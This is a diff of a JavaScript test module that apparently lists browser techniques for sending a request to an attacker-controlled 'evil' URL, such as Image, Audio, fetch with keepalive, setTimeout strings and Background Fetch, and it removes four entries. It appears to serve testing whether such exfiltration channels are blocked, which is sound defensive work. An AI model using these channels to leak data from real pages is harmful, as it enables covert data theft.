@@ -79,14 +79,10 @@ export default {
   "Image": ({ evil }) => void (new Image().src = evil),
   "Image's decode": ({ evil }) => Object.assign(new Image(), { src: evil }).decode(),
   "Audio": ({ evil }) => void new Audio(evil).load(),
-  "Notification": ({ evil }) => void new Notification("x", { icon: evil }),
-  "a picture's icon in the media session": ({ evil }) => void (navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: evil }] })),
   "fetch in a timer's string": ({ evil }) => void setTimeout(`fetch("${evil}", { mode: "no-cors" })`),
   "fetch of an async function": ({ evil }) => Object.getPrototypeOf(async () => {}).constructor("u", "return fetch(u, { mode: 'no-cors' })")(evil),
   "fetch with a stream": ({ evil }) =>
     fetch(evil, { method: "POST", mode: "no-cors", body: new Blob(["x"]), keepalive: true }),
-  "fetch to a path of many redirects off": ({ evil }) => fetch(evil, { mode: "no-cors", redirect: "manual" }),
-  "a link's attributionsrc": ({ add, evil }) => add("img", { src: "data:,x" }).setAttribute("attributionsrc", evil),
   "Background Fetch": async ({ evil, sleep }) => {
     const registration = await navigator.serviceWorker.register("/idle.js");
     await sleep(300);
